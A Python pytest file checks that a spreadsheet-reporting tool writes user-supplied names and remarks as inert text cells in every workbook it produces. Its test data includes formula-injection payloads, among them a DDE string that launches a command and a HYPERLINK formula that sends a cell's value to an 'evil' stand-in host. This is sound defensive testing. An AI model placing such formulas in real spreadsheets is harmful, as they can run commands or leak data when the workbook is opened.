"""Formula injection: user strings such as ``=HYPERLINK(...)``, ``+1``, ``-1+2`` and ``@SUM(A1)``
are written as text everywhere (templates, results, annotated copies, ledger export, roster).

Each workbook is read back with openpyxl: every cell holding one of these strings must be a
string cell (``data_type == "s"``), never a formula, and each string must be found where the
writer puts it (so a string silently turned into a number or a formula fails too).
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from redflag_xlsx.core.roster import Roster
from redflag_xlsx.core.rules import Rules
from redflag_xlsx.core.scoring import tally
from redflag_xlsx.forms.templates import build_templates, write_roster_workbook
from redflag_xlsx.intake.annotate import annotate
from redflag_xlsx.intake.reader import read_submissions
from redflag_xlsx.ledger.export import export_ledger
from redflag_xlsx.ledger.store import Ledger
from redflag_xlsx.results.writer import write_results
from redflag_xlsx.xlsx import layout

from fill import complete, fill_combined, open_workbook

KEY = b"injection-test-key"
PERIOD = "2026Q4"

UNIT_NAMES = [
    '=HYPERLINK("http://x","y")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"点此")',
    "=SUM(1,2)",
]
LEADER_NAMES = ["=1+2", "+A1", "-2+3", "@A1", '=HYPERLINK("http://x","领导")']
REMARKS = ['=HYPERLINK("http://x","y")', "+1", "-1+2", "@SUM(A1)", "=A1*100"]

INJECTED = {*UNIT_NAMES, *LEADER_NAMES, *REMARKS}


def _roster() -> Roster:
    """The sample roster with hostile names (built through the validators, as a file would)."""
    sample = Roster.sample().model_dump()
    for unit, name in zip(sample["units"], UNIT_NAMES, strict=False):
        unit["name"] = name
    for leader, name in zip(sample["leaders"], LEADER_NAMES, strict=True):
        leader["name"] = name
    roster = Roster(**sample)
    assert [u.name for u in roster.units[: len(UNIT_NAMES)]] == UNIT_NAMES
    return roster


def _type_remarks_as_text(path: Path, roster: Roster) -> None:
    """Type the remarks as a person does in Excel with a leading apostrophe: text cells."""
    with open_workbook(path) as wb:
        ws = wb[layout.sheet_name("scoring")]
        header = {c.value: c.column for c in ws[layout.HEADER_ROW]}
        col = header[layout.scoring_columns(Rules.default())[-2].header]
        rows = {ws.cell(r, 1).value: r for r in range(layout.FIRST_DATA_ROW, ws.max_row + 1)}
        for unit, remark in zip(roster.units, REMARKS, strict=False):
            cell = ws.cell(rows[unit.code], col)
            cell.value = remark
            cell.data_type = "s"  # openpyxl would take a leading "=" for a formula


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    root = tmp_path_factory.mktemp("injection")
    roster = _roster()
    combined = build_templates(roster, PERIOD, root / "forms", key=KEY)
    split = build_templates(roster, PERIOD, root / "split", key=KEY, split=True)
    filled = fill_combined(combined[0], out=root / "filled" / combined[0].name, **complete(roster))
    _type_remarks_as_text(filled, roster)

    sub = read_submissions([filled], key=KEY)
    assert [i.code for i in sub.issues] == []
    assert [sub.scoring[u.code].remark for u in roster.units[: len(REMARKS)]] == REMARKS
    ledger = Ledger(root / "history.db")
    try:
        result = tally(sub, Rules.default(), ledger.history(before=PERIOD))
        results = write_results(result, root / "results")
        ledger.record(result)
        export = export_ledger(ledger, root / "ledger.xlsx")
    finally:
        ledger.close()

    # An annotated copy: one wrong rating makes the file one to send back.
    wrong = fill_combined(filled, out=root / "wrong" / filled.name, peer={"JG02": {"JG03": 101}})
    bad = read_submissions([wrong], key=KEY)
    assert [i.code for i in bad.issues] == ["E_OUT_OF_RANGE"]
    annotated = annotate(bad.issues, root / "annotated")
    roster_book = write_roster_workbook(roster, root / "roster.xlsx")
    return {
        "templates": combined,
        "split templates": split,
        "results": [results],
        "annotated copy": annotated,
        "ledger export": [export],
        "roster workbook": [roster_book],
    }


# output, strings that must be found in it as text
EXPECTED = [
    ("templates", {*UNIT_NAMES, *LEADER_NAMES}),
    ("split templates", {*UNIT_NAMES, *LEADER_NAMES}),
    ("results", {*UNIT_NAMES, *REMARKS}),
    ("annotated copy", {*UNIT_NAMES, *LEADER_NAMES, *REMARKS}),
    ("ledger export", set(UNIT_NAMES)),
    ("roster workbook", {*UNIT_NAMES, *LEADER_NAMES}),
]


@pytest.mark.parametrize(("output", "expected"), EXPECTED, ids=[e[0] for e in EXPECTED])
def test_user_strings_stay_text(
    outputs: dict[str, list[Path]], output: str, expected: set[str]
) -> None:
    paths = outputs[output]
    assert paths
    found: set[str] = set()
    for path in paths:
        wb = openpyxl.load_workbook(path)  # formulas as written, not their values
        try:
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        value = cell.value
                        if not isinstance(value, str):
                            continue
                        if value in INJECTED:
                            assert cell.data_type == "s", (path.name, ws.title, cell.coordinate)
                            found.add(value)
                        if cell.data_type == "f":  # our own formulas never carry user text
                            assert not any(s.lstrip("=\t") in value for s in INJECTED), (
                                path.name,
                                ws.title,
                                cell.coordinate,
                                value,
                            )
        finally:
            wb.close()
    assert found >= expected, sorted(expected - found)
